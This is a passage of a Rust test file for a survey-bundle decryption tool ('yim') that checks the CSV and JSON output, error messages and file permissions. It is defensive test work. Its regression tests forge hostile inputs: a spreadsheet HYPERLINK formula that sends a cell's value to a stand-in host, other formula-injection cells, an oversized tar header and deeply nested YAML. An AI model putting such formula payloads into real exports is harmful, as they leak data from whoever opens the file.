//! `yim keygen` and `yim decrypt` pinned as cases: arguments in, exit status,
//! output and the files written out. Refresh the expected text with
//! `UPDATE_EXPECT=1`.
//!
//! The bundles in `tests/fixtures/bundles/` are committed, so a change that
//! stops old bundles from opening fails here. They are made again from the
//! forms and responses below with `UPDATE_BUNDLES=1`; the keys and the
//! passphrase there are published and TEST ONLY.

use std::path::Path;
use std::process::Command;
use std::sync::Once;

use expect_test::{expect, Expect};

mod common;
mod sealing;

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/bundles");

/// Runs `yim` in a fresh folder holding a copy of the fixtures and returns
/// its exit status and what it printed, followed by every file it wrote
/// into `out/`. A byte order mark shows as `<BOM>`.
fn run(args: &[&str], prepare: impl FnOnce(&Path)) -> (i32, String) {
    make_fixtures();
    let dir = tempfile::tempdir().unwrap();
    for entry in std::fs::read_dir(FIXTURES).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), dir.path().join(entry.file_name())).unwrap();
    }
    prepare(dir.path());
    let out = Command::new(env!("CARGO_BIN_EXE_yim"))
        .args(args)
        .current_dir(dir.path())
        .output()
        .expect("yim runs");
    let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
    for line in String::from_utf8_lossy(&out.stderr).lines() {
        text += &format!("stderr: {line}\n");
    }
    // A staging folder that stays behind holds decrypted answers in clear.
    let mut leftovers: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".yim-decrypt"))
        .collect();
    leftovers.sort();
    for name in leftovers {
        text += &format!("left behind: {name}\n");
    }
    let written = dir.path().join("out");
    if written.is_dir() {
        let mut names: Vec<_> = std::fs::read_dir(&written)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        names.sort();
        for name in names {
            let content = std::fs::read_to_string(written.join(&name)).unwrap();
            text += &format!(
                "== out/{}\n{}",
                name.to_string_lossy(),
                content.replace('\u{feff}', "<BOM>")
            );
        }
    }
    (out.status.code().unwrap_or(-1), text)
}

fn check(args: &[&str], status: i32, expect: Expect) {
    check_prepared(args, |_| {}, status, expect);
}

/// [`check`] after `prepare` has added files (hostile bundles, say) to the
/// folder `yim` runs in.
fn check_prepared(args: &[&str], prepare: impl FnOnce(&Path), status: i32, expect: Expect) {
    let (code, text) = run(args, prepare);
    assert_eq!(code, status, "exit status of yim {args:?}, output:\n{text}");
    expect.assert_eq(&text);
}

#[test]
fn decrypt_writes_one_csv_per_form_and_per_repeat() {
    check(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "3f2a-1.yim.age",
        ],
        0,
        expect![[r#"
            opened 1 bundle from 1 device: 2 responses of 1 form
            device 3f2a: have 1
            wrote out/child-visit.csv (2 responses)
            wrote out/child-visit-household.csv (2 rows)
            wrote out/child-visit-visits.csv (2 rows)
            == out/child-visit-household.csv
            member_name,PARENT_KEY,KEY
            นางสมศรี ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[1]
            นายสมชาย ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[2]
            == out/child-visit-visits.csv
            visit_date,PARENT_KEY,KEY
            2026-11-01,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[1]
            2026-11-15,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[2]
            == out/child-visit.csv
            child_name,age,province,needs,age_group,KEY,FormVersion,DeviceID,Created,Updated,Status
            ด.ญ. มะลิ ใจดี,4,phayao,food health,young,019ab0b2-8c60-7a11-8f00-00000000000a,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-20T03:00:00.000Z,finalized
            "ด.ช. ต้นกล้า ""ตัวเล็ก"", น้องชาย",9,loei,,school,019ab0b2-8c60-7a11-8f00-00000000000b,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-20T04:00:00.000Z,finalized
        "#]],
    );
}

#[test]
fn decrypt_merges_repeated_and_overlapping_bundles() {
    // The same bundle twice and a later one that carries response b again:
    // every response once, and the newest form version leads the columns.
    check(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "3f2a-1.yim.age",
            "3f2a-1.yim.age",
            "3f2a-2.yim.age",
        ],
        0,
        expect![[r#"
            opened 3 bundle files (2 different) from 1 device: 3 responses of 1 form
            bundle 019ab0c0-0000-7000-8000-00003f2a0001 was given more than once; its responses count once
            device 3f2a: have 1-2
            wrote out/child-visit.csv (3 responses)
            wrote out/child-visit-household.csv (2 rows)
            wrote out/child-visit-visits.csv (2 rows)
            == out/child-visit-household.csv
            member_name,PARENT_KEY,KEY
            นางสมศรี ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[1]
            นายสมชาย ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[2]
            == out/child-visit-visits.csv
            visit_date,PARENT_KEY,KEY
            2026-11-01,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[1]
            2026-11-15,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[2]
            == out/child-visit.csv
            child_name,age,phone,province,needs,age_group,KEY,FormVersion,DeviceID,Created,Updated,Status
            ด.ญ. มะลิ ใจดี,4,,phayao,food health,young,019ab0b2-8c60-7a11-8f00-00000000000a,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-20T03:00:00.000Z,finalized
            "ด.ช. ต้นกล้า ""ตัวเล็ก"", น้องชาย",9,,loei,,school,019ab0b2-8c60-7a11-8f00-00000000000b,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-20T04:00:00.000Z,finalized
            ด.ญ. ใบเตย,7,0812345678,phayao,school,school,019ab0b2-8c60-7a11-8f00-00000000000c,2,3f2a,2026-11-20T02:00:00.000Z,2026-11-21T05:00:00.000Z,finalized
        "#]],
    );
}

#[test]
fn decrypt_reports_missing_exports_and_disagreeing_copies() {
    check(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "3f2a-4.yim.age",
            "9b1c-1.yim.age",
            "3f2a-1.yim.age",
            "3f2a-2.yim.age",
        ],
        1,
        expect![[r#"
            opened 4 bundles from 2 devices: 4 responses of 1 form
            device 3f2a: have 1-2, 4; missing 3
            device 9b1c: have 1
            response 019ab0b2-8c60-7a11-8f00-00000000000a: 2 different copies; kept the one updated 2026-11-23T08:30:00+07:00 (from device 3f2a export 4), left out the one updated 2026-11-20T03:00:00.000Z (from device 3f2a export 1)
            wrote out/child-visit.csv (4 responses)
            wrote out/child-visit-household.csv (2 rows)
            wrote out/child-visit-visits.csv (2 rows)
            wrote out/conflicts.json (1 left-out copy)
            == out/child-visit-household.csv
            member_name,PARENT_KEY,KEY
            นางสมศรี ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[1]
            นายสมชาย ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[2]
            == out/child-visit-visits.csv
            visit_date,PARENT_KEY,KEY
            2026-11-01,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[1]
            2026-11-15,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[2]
            == out/child-visit.csv
            child_name,age,province,needs,age_group,phone,old_field,KEY,FormVersion,DeviceID,Created,Updated,Status
            ด.ญ. มะลิ ใจดี,5,phayao,food health,young,,,019ab0b2-8c60-7a11-8f00-00000000000a,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-23T08:30:00+07:00,finalized
            "ด.ช. ต้นกล้า ""ตัวเล็ก"", น้องชาย",9,loei,,school,,,019ab0b2-8c60-7a11-8f00-00000000000b,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-20T04:00:00.000Z,finalized
            ด.ญ. ใบเตย,7,phayao,school,school,0812345678,,019ab0b2-8c60-7a11-8f00-00000000000c,2,3f2a,2026-11-20T02:00:00.000Z,2026-11-21T05:00:00.000Z,finalized
            "น้องฟ้า
            บรรทัดที่สอง",3,loei,health,young,,kept,019ab0b2-8c60-7a11-8f00-00000000000d,2,9b1c,2026-11-20T02:00:00.000Z,2026-11-22T06:00:00.000Z,finalized
            == out/conflicts.json
            [
              {
                "kept": {
                  "found_in": [
                    {
                      "bundle_id": "019ab0c0-0000-7000-8000-00003f2a0004",
                      "device_id": "3f2a",
                      "sequence": 4
                    }
                  ],
                  "updated": "2026-11-23T08:30:00+07:00"
                },
                "left_out": [
                  {
                    "found_in": [
                      {
                        "bundle_id": "019ab0c0-0000-7000-8000-00003f2a0001",
                        "device_id": "3f2a",
                        "sequence": 1
                      }
                    ],
                    "response": {
                      "answers": {
                        "age": 4,
                        "age_group": "young",
                        "child_name": "ด.ญ. มะลิ ใจดี",
                        "household": [
                          {
                            "member_name": "นางสมศรี ใจดี",
                            "visits": [
                              {
                                "visit_date": "2026-11-01"
                              },
                              {
                                "visit_date": "2026-11-15"
                              }
                            ]
                          },
                          {
                            "member_name": "นายสมชาย ใจดี"
                          }
                        ],
                        "needs": [
                          "food",
                          "health"
                        ],
                        "province": "phayao"
                      },
                      "created": "2026-11-20T02:00:00.000Z",
                      "device_id": "3f2a",
                      "form_hash": "8110a2a2b409ad5dbf958d1b8b5163b924053ac6ad22f0ce98b6d814c0df6727",
                      "form_id": "child-visit",
                      "form_version": "1",
                      "id": "019ab0b2-8c60-7a11-8f00-00000000000a",
                      "status": "finalized",
                      "updated": "2026-11-20T03:00:00.000Z"
                    }
                  }
                ],
                "response_id": "019ab0b2-8c60-7a11-8f00-00000000000a"
              }
            ]
        "#]],
    );
}

#[test]
fn decrypt_keeps_answers_whose_form_cannot_be_read() {
    check(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "old-form.yim.age",
        ],
        1,
        expect![[r#"
            opened 1 bundle from 1 device: 1 response of 1 form
            device 5e5e: have 1
            form old-form version 0.9: its resolved form in the bundle cannot be read (expected `,` or `}` to continue or close the `{` mapping); its columns follow the answers
            wrote out/old-form.csv (1 response)
            wrote out/old-form-pets.csv (2 rows)
            == out/old-form-pets.csv
            kind,age,PARENT_KEY,KEY
            แมว,,019ab0b2-8c60-7a11-8f00-00000000000f,019ab0b2-8c60-7a11-8f00-00000000000f/pets[1]
            หมา,2,019ab0b2-8c60-7a11-8f00-00000000000f,019ab0b2-8c60-7a11-8f00-00000000000f/pets[2]
            == out/old-form.csv
            name,KEY,FormVersion,DeviceID,Created,Updated,Status
            ลำดวน,019ab0b2-8c60-7a11-8f00-00000000000f,0.9,5e5e,2026-11-20T02:00:00.000Z,2026-11-22T08:00:00.000Z,finalized
        "#]],
    );
}

#[test]
fn decrypt_with_labels_and_a_byte_order_mark() {
    check(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "--labels",
            "--bom",
            "3f2a-1.yim.age",
        ],
        0,
        expect![[r#"
            opened 1 bundle from 1 device: 2 responses of 1 form
            device 3f2a: have 1
            wrote out/child-visit.csv (2 responses)
            wrote out/child-visit-household.csv (2 rows)
            wrote out/child-visit-visits.csv (2 rows)
            == out/child-visit-household.csv
            <BOM>member_name,PARENT_KEY,KEY
            นางสมศรี ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[1]
            นายสมชาย ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[2]
            == out/child-visit-visits.csv
            <BOM>visit_date,PARENT_KEY,KEY
            2026-11-01,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[1]
            2026-11-15,019ab0b2-8c60-7a11-8f00-00000000000a/household[1],019ab0b2-8c60-7a11-8f00-00000000000a/household[1]/visits[2]
            == out/child-visit.csv
            <BOM>child_name,age,province,needs,age_group,KEY,FormVersion,DeviceID,Created,Updated,Status
            ด.ญ. มะลิ ใจดี,4,พะเยา,อาหาร; สุขภาพ,young,019ab0b2-8c60-7a11-8f00-00000000000a,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-20T03:00:00.000Z,finalized
            "ด.ช. ต้นกล้า ""ตัวเล็ก"", น้องชาย",9,เลย,,school,019ab0b2-8c60-7a11-8f00-00000000000b,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-20T04:00:00.000Z,finalized
        "#]],
    );
}

#[test]
fn decrypt_to_json() {
    check(
        &[
            "decrypt",
            "--format",
            "json",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "3f2a-1.yim.age",
        ],
        0,
        expect![[r#"
            opened 1 bundle from 1 device: 2 responses of 1 form
            device 3f2a: have 1
            wrote out/child-visit.json (2 responses)
            == out/child-visit.json
            [
              {
                "id": "019ab0b2-8c60-7a11-8f00-00000000000a",
                "form_id": "child-visit",
                "form_version": "1",
                "form_hash": "8110a2a2b409ad5dbf958d1b8b5163b924053ac6ad22f0ce98b6d814c0df6727",
                "created": "2026-11-20T02:00:00.000Z",
                "updated": "2026-11-20T03:00:00.000Z",
                "device_id": "3f2a",
                "status": "finalized",
                "answers": {
                  "age": 4,
                  "age_group": "young",
                  "child_name": "ด.ญ. มะลิ ใจดี",
                  "household": [
                    {
                      "member_name": "นางสมศรี ใจดี",
                      "visits": [
                        {
                          "visit_date": "2026-11-01"
                        },
                        {
                          "visit_date": "2026-11-15"
                        }
                      ]
                    },
                    {
                      "member_name": "นายสมชาย ใจดี"
                    }
                  ],
                  "needs": [
                    "food",
                    "health"
                  ],
                  "province": "phayao"
                }
              },
              {
                "id": "019ab0b2-8c60-7a11-8f00-00000000000b",
                "form_id": "child-visit",
                "form_version": "1",
                "form_hash": "8110a2a2b409ad5dbf958d1b8b5163b924053ac6ad22f0ce98b6d814c0df6727",
                "created": "2026-11-20T02:00:00.000Z",
                "updated": "2026-11-20T04:00:00.000Z",
                "device_id": "3f2a",
                "status": "finalized",
                "answers": {
                  "age": 9,
                  "age_group": "school",
                  "child_name": "ด.ช. ต้นกล้า \"ตัวเล็ก\", น้องชาย",
                  "needs": [],
                  "province": "loei"
                }
              }
            ]
        "#]],
    );
}

#[test]
fn decrypt_with_a_passphrase() {
    check(
        &[
            "decrypt",
            "--passphrase-file",
            "passphrase.txt",
            "-o",
            "out",
            "77aa-1.yim.age",
        ],
        0,
        expect![[r#"
            opened 1 bundle from 1 device: 1 response of 1 form
            device 77aa: have 1
            wrote out/child-visit.csv (1 response)
            wrote out/child-visit-household.csv (0 rows)
            wrote out/child-visit-visits.csv (0 rows)
            == out/child-visit-household.csv
            member_name,PARENT_KEY,KEY
            == out/child-visit-visits.csv
            visit_date,PARENT_KEY,KEY
            == out/child-visit.csv
            child_name,age,province,needs,age_group,KEY,FormVersion,DeviceID,Created,Updated,Status
            ด.ช. ภูผา,11,,,school,019ab0b2-8c60-7a11-8f00-00000000000e,1,77aa,2026-11-20T02:00:00.000Z,2026-11-22T07:00:00.000Z,finalized
        "#]],
    );
    check(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "77aa-1.yim.age",
        ],
        2,
        expect![[r#"
        stderr: 77aa-1.yim.age: this bundle is protected by a passphrase, but no passphrase was given
        stderr: yim: nothing was written: 1 of 1 bundle file could not be opened
    "#]],
    );
}

#[test]
fn decrypt_writes_nothing_when_any_bundle_is_bad() {
    check(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "3f2a-1.yim.age",
            "stranger.yim.age",
            "tampered.yim.age",
            "truncated.yim.age",
            "missing.yim.age",
        ],
        2,
        expect![[r#"
            stderr: stranger.yim.age: this bundle is not addressed to any of your keys
            stderr: tampered.yim.age: this bundle was changed or cut short after it was made (part of its content fails authentication)
            stderr: truncated.yim.age: this bundle is cut short inside its age header
            stderr: missing.yim.age: no such file
            stderr: yim: nothing was written: 4 of 5 bundle files could not be opened
        "#]],
    );
}

#[test]
fn decrypt_never_mixes_with_earlier_output() {
    let (code, text) = run(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "3f2a-1.yim.age",
        ],
        |dir| {
            std::fs::create_dir(dir.join("out")).unwrap();
            std::fs::write(dir.join("out/old.csv"), "KEY\n").unwrap();
        },
    );
    assert_eq!(code, 2);
    expect![[r#"
        stderr: yim: expected a new or empty folder for the output, but out already holds files (yim does not mix new results with old ones)
        == out/old.csv
        KEY
    "#]].assert_eq(&text);
    // An empty folder is fine: it is replaced by the result, which only its
    // owner can read.
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("out")).unwrap();
    let status = Command::new(env!("CARGO_BIN_EXE_yim"))
        .args(["decrypt", "-i", "office-key.txt", "3f2a-1.yim.age", "-o"])
        .arg(dir.path().join("out"))
        .current_dir(FIXTURES)
        .output()
        .unwrap();
    assert_eq!(status.status.code(), Some(0), "{status:?}");
    assert!(dir.path().join("out/child-visit.csv").is_file());
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.path().join("out"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o700);
    }
}

#[test]
fn decrypt_usage_errors() {
    let usage_error = |args: &[&str], expect: Expect| {
        let (code, text) = run(args, |_| {});
        assert_eq!(code, 2);
        expect.assert_eq(text.lines().next().unwrap_or(""));
    };
    usage_error(
        &["decrypt", "-o", "out", "3f2a-1.yim.age"],
        expect!["stderr: yim: decrypt needs -i KEY_FILE (or --passphrase-file FILE)"],
    );
    usage_error(
        &["decrypt", "-i", "office-key.txt", "3f2a-1.yim.age"],
        expect!["stderr: yim: decrypt needs -o FOLDER for the results"],
    );
    usage_error(
        &["decrypt", "-i", "office-key.txt", "-o", "out"],
        expect!["stderr: yim: decrypt needs at least one bundle file"],
    );
    usage_error(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "--format",
            "xlsx",
            "3f2a-1.yim.age",
        ],
        expect!["stderr: yim: expected --format csv, parquet or json, but found `xlsx`"],
    );
    check(
        &[
            "decrypt",
            "-i",
            "stranger.yim.age",
            "-o",
            "out",
            "3f2a-1.yim.age",
        ],
        2,
        expect![[r#"
        stderr: yim: stranger.yim.age: expected an age identity file (text), but found other bytes
    "#]],
    );
}

#[test]
fn keygen_writes_an_age_identity_file() {
    let dir = tempfile::tempdir().unwrap();
    let yim = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_yim"))
            .args(args)
            .current_dir(dir.path())
            .output()
            .unwrap()
    };
    let out = yim(&["keygen", "-o", "key.txt"]);
    assert_eq!(out.status.code(), Some(0));
    let public = String::from_utf8(out.stdout).unwrap();
    let file = std::fs::read_to_string(dir.path().join("key.txt")).unwrap();
    let lines: Vec<&str> = file.lines().collect();
    // The same three lines as age-keygen: when, the public key, the secret key.
    assert_eq!(lines.len(), 3, "{file}");
    assert!(
        lines[0].starts_with("# created: 20") && lines[0].ends_with('Z'),
        "{file}"
    );
    assert_eq!(
        format!("{}\n", lines[1].strip_prefix("# public key: ").unwrap()),
        public
    );
    assert!(public.starts_with("age1") && public.len() == 63);
    assert!(lines[2].starts_with("AGE-SECRET-KEY-1"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.path().join("key.txt"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    // Debian's age-keygen reads the file and finds the same public key.
    let age = Command::new("/usr/bin/age-keygen")
        .args(["-y", "key.txt"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(String::from_utf8(age.stdout).unwrap(), public);

    // An existing file, key or not, is never replaced.
    let again = yim(&["keygen", "-o", "key.txt"]);
    assert_eq!(again.status.code(), Some(2));
    expect![[r#"
        yim: expected a new file for the key, but key.txt already exists (yim never overwrites a key)
    "#]].assert_eq(&String::from_utf8(again.stderr).unwrap());
    assert_eq!(
        std::fs::read_to_string(dir.path().join("key.txt")).unwrap(),
        file
    );

    let usage = yim(&["keygen"]);
    assert_eq!(usage.status.code(), Some(2));
    expect!["yim: keygen needs -o FILE for the new key"].assert_eq(
        String::from_utf8(usage.stderr)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    );
}

// ---------------------------------------------------------------------------
// Regression tests, each named after the defect of issue 17 it guards. The
// hostile bundles are made by each test, as a forger would make them.

use serde_json::json;

fn v1() -> yim_bundle::BundleForm {
    fixtures::form("child-visit-v1.yaml")
}

/// Writes `bytes` as `name` in the folder yim runs in.
fn put(name: &'static str, bytes: Vec<u8>) -> impl FnOnce(&Path) {
    move |dir| std::fs::write(dir.join(name), bytes).unwrap()
}

#[test]
fn defect_1_formula_cells_and_headers_are_neutralised() {
    let form = v1();
    let answers = json!({
        "child_name": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"ดูผล\")",
        "age": -5,
        "+cmd": "@SUM(A1)",
        "phone": "+66 81 234 5678",
        "phone_dashes": "+66-81-234-5678",
        "sum": "-2+3",
        "price": "+3.25",
        "tab": "\t=1",
        "cr": "\r=1",
        "text": "ปกติ - ไม่มีอะไร",
    });
    let bytes = fixtures::forged(
        "3f2a",
        1,
        &[&form],
        &[fixtures::response(
            '1',
            &form,
            "3f2a",
            "2026-11-25T03:00:00.000Z",
            answers,
        )],
    );
    // The rule, cell by cell: numbers and phone numbers in groups of
    // digits stay; everything else that starts like a formula gets a `'`.
    // A carriage return shows as <CR> and a tab as <TAB>.
    let csv = |args: &[&str]| {
        let (code, text) = run(args, put("formulas.yim.age", bytes.clone()));
        assert_eq!(code, 0, "{text}");
        let table = text.split("== out/child-visit.csv\n").nth(1).unwrap_or("");
        table.replace('\r', "<CR>").replace('\t', "<TAB>")
    };
    expect![[r#"
        child_name,age,province,needs,age_group,'+cmd,cr,phone,phone_dashes,price,sum,tab,text,KEY,FormVersion,DeviceID,Created,Updated,Status
        "'=HYPERLINK(""http://example.invalid/?""&A1,""ดูผล"")",-5,,,,'@SUM(A1),"'<CR>=1",+66 81 234 5678,'+66-81-234-5678,+3.25,'-2+3,'<TAB>=1,ปกติ - ไม่มีอะไร,019ab0b2-8c60-7a11-8f00-000000000001,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-25T03:00:00.000Z,finalized
    "#]]
    .assert_eq(&csv(&["decrypt", "-i", "office-key.txt", "-o", "out", "formulas.yim.age"]));
    // `--raw-csv` writes the answers exactly as they came.
    expect![[r#"
        child_name,age,province,needs,age_group,+cmd,cr,phone,phone_dashes,price,sum,tab,text,KEY,FormVersion,DeviceID,Created,Updated,Status
        "=HYPERLINK(""http://example.invalid/?""&A1,""ดูผล"")",-5,,,,@SUM(A1),"<CR>=1",+66 81 234 5678,+66-81-234-5678,+3.25,-2+3,<TAB>=1,ปกติ - ไม่มีอะไร,019ab0b2-8c60-7a11-8f00-000000000001,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-25T03:00:00.000Z,finalized
    "#]]
    .assert_eq(&csv(&[
        "decrypt",
        "--raw-csv",
        "-i",
        "office-key.txt",
        "-o",
        "out",
        "formulas.yim.age",
    ]));
}

#[test]
fn defect_2_a_huge_tar_entry_size_exits_2_naming_the_bundle() {
    let mut header = tar::Header::new_gnu();
    header.set_path("manifest.json").unwrap();
    header.set_size(1 << 62);
    header.set_mode(0o644);
    header.set_entry_type(tar::EntryType::Regular);
    header.set_cksum();
    let mut archive = header.as_bytes().to_vec();
    archive.resize(2048, 0);
    let office: age::x25519::Identity = fixtures::read("office-key.txt")
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
        .unwrap()
        .parse()
        .unwrap();
    let bytes = age::encrypt(&office.to_public(), &archive).unwrap();
    check_prepared(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "huge.yim.age",
        ],
        put("huge.yim.age", bytes),
        2,
        expect![[r#"
            stderr: huge.yim.age: the archive inside this bundle is damaged: expected at most 100663296 bytes for `manifest.json`, but its header claims 4611686018427387904
            stderr: yim: nothing was written: 1 of 1 bundle file could not be opened
        "#]],
    );
}

/// A form nested 20,000 levels deep: `- - - ...`.
fn deep_yaml() -> String {
    format!(
        "form: {{id: deep, version: '1'}}\nquestions:\n  {}x\n",
        "- ".repeat(20_000)
    )
}

#[test]
fn defect_3_deeply_nested_yaml_is_refused_by_lint_and_decrypt() {
    check_prepared(
        &["lint", "deep.yaml"],
        |dir| std::fs::write(dir.join("deep.yaml"), deep_yaml()).unwrap(),
        1,
        expect![[r#"
            deep.yaml:3:201: expected lists and mappings nested at most 100 levels deep, but found more here
        "#]],
    );
    // The same text as the resolved form inside a valid bundle.
    let form = yim_bundle::BundleForm {
        id: "deep".into(),
        version: "1".into(),
        yaml: deep_yaml(),
    };
    let bytes = fixtures::forged(
        "3f2a",
        1,
        &[&form],
        &[fixtures::response(
            '1',
            &form,
            "3f2a",
            "2026-11-25T03:00:00.000Z",
            json!({"a": 1}),
        )],
    );
    check_prepared(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "deep.yim.age",
        ],
        put("deep.yim.age", bytes),
        1,
        expect![[r#"
            opened 1 bundle from 1 device: 1 response of 1 form
            device 3f2a: have 1
            form deep version 1: its resolved form in the bundle cannot be read (expected lists and mappings nested at most 100 levels deep, but found more here); its columns follow the answers
            wrote out/deep.csv (1 response)
            == out/deep.csv
            a,KEY,FormVersion,DeviceID,Created,Updated,Status
            1,019ab0b2-8c60-7a11-8f00-000000000001,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-25T03:00:00.000Z,finalized
        "#]],
    );
}

#[test]
fn defect_7_long_thai_ids_and_windows_device_names_get_usable_file_names() {
    let thai = "แบบบันทึกการเยี่ยมบ้านเด็กและครอบครัวกลุ่มเปราะบางในพื้นที่ห่างไกล";
    let long = |tail: &str| named(&format!("{thai}{tail}"));
    // Two long ids that differ only past the cut, and two names Windows
    // keeps for devices.
    let forms = [long("-ก"), long("-ข"), named("nul"), named("COM1.visit")];
    let responses: Vec<_> = forms
        .iter()
        .zip(['1', '2', '3', '4'])
        .map(|(f, n)| {
            fixtures::response(n, f, "3f2a", "2026-11-25T03:00:00.000Z", json!({"age": 4}))
        })
        .collect();
    let bytes = fixtures::forged("3f2a", 1, &forms.iter().collect::<Vec<_>>(), &responses);
    let (code, text) = run(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "names.yim.age",
        ],
        put("names.yim.age", bytes),
    );
    assert_eq!(code, 0, "{text}");
    let wrote: String = text
        .lines()
        .filter(|l| l.starts_with("wrote"))
        .map(|l| format!("{l}\n"))
        .collect();
    expect![[r#"
        wrote out/_COM1.visit.csv (1 response)
        wrote out/_COM1.visit-household.csv (0 rows)
        wrote out/_COM1.visit-visits.csv (0 rows)
        wrote out/_nul.csv (1 response)
        wrote out/_nul-household.csv (0 rows)
        wrote out/_nul-visits.csv (0 rows)
        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~30bd63ca.csv (1 response)
        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~30bd63ca-household.csv (0 rows)
        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~30bd63ca-visits.csv (0 rows)
        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~cf734cd7.csv (1 response)
        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~cf734cd7-household.csv (0 rows)
        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~cf734cd7-visits.csv (0 rows)
    "#]]
    .assert_eq(&wrote);
}

/// A bundle from device `3f2a` whose one response carries the photo
/// `face.jpg` with `photo` as its bytes.
fn with_photo(sequence: u64, n: char, photo: &[u8]) -> Vec<u8> {
    let office = fixtures::key("office-key.txt");
    let form = v1();
    let response = fixtures::response(
        n,
        &form,
        "3f2a",
        "2026-11-25T03:00:00.000Z",
        json!({"age": 4}),
    );
    let header = yim_bundle::BundleHeader {
        id: format!("019ab0c0-0000-7000-8000-{sequence:012}"),
        created: "2026-11-25T10:00:00.000Z".into(),
        device_id: "3f2a".into(),
        sequence,
    };
    let mut w = yim_bundle::BundleWriter::new(&header, vec![form], &office).unwrap();
    let sealed = yim_bundle::seal(&response, &office).unwrap();
    let photo = yim_bundle::seal_attachment("face.jpg", photo, &office).unwrap();
    w.add_with_attachments(&sealed, &[photo]).unwrap();
    w.finish().unwrap()
}

/// Runs `yim decrypt` on `bundles`, written into a fresh folder, checks that
/// it exits with `status`, and returns what it printed and the folder.
fn decrypt_photos(bundles: &[(&str, Vec<u8>)], status: i32) -> (String, tempfile::TempDir) {
    make_fixtures();
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(
        format!("{FIXTURES}/office-key.txt"),
        dir.path().join("office-key.txt"),
    )
    .unwrap();
    let mut args = vec!["decrypt", "-i", "office-key.txt", "-o", "out"];
    for (name, bytes) in bundles {
        std::fs::write(dir.path().join(name), bytes).unwrap();
        args.push(name);
    }
    let text = common::run(dir.path(), &args, status);
    (text, dir)
}

#[test]
fn decrypt_writes_each_photo_byte_for_byte() {
    let photo: Vec<u8> = (0..70_000u32).map(|i| (i % 251) as u8).collect();
